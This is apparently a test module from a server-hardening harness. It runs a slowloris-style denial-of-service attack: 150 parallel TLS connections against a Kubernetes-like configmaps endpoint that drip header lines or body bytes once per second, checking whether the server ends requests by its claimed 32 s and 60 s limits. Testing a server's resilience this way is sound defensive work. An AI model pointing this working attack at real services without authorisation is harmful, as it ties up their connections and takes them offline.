import { setTimeout as pause } from "node:timers/promises";
import { BrokenClaim, bearer, openTls } from "../lib/hostile.ts";
import { type Attack } from "./attack.ts";

const connections = 150;

export const attack: Attack = {
  name: "slow headers, slow bodies",
  claim: "32 s for headers, 60 s for a body",
  needs: "server",

  async run(target, signal) {
    let made = 0;
    let cut = 0;
    const one = async (n: number): Promise<void> => {
      const socket = await openTls(target, "http/1.1");
      made++;
      socket.on("close", () => cut++).resume();
      const { authorization } = bearer(target);
      const path = `/api/v1/namespaces/${target.namespace}/configmaps`;
      const head = `POST ${path} HTTP/1.1\r\nhost: x\r\n`;
      const slow = n % 2 === 0 ? head : `${head}authorization: ${authorization}\r\ncontent-length: 3000000\r\n\r\n`;
      const startedMs = Date.now();
      socket.write(slow);
      while (!signal.aborted && !socket.destroyed) {
        await pause(1000, undefined, { signal }).catch(() => {});
        if (socket.writable) socket.write(n % 2 === 0 ? "a: b\r\n" : " ");
        if (Date.now() - startedMs > 75_000) throw new BrokenClaim("a request of 75 s was not ended");
      }
      socket.destroy();
    };
    while (!signal.aborted) {
      const all = await Promise.allSettled(Array.from({ length: connections }, (_, n) => one(n)));
      for (const { reason } of all.filter((each) => each.status === "rejected")) {
        if (reason instanceof BrokenClaim) throw reason;
      }
    }
    return `${made} connections that send a line or a byte every second, ${cut} ended`;
  },
};
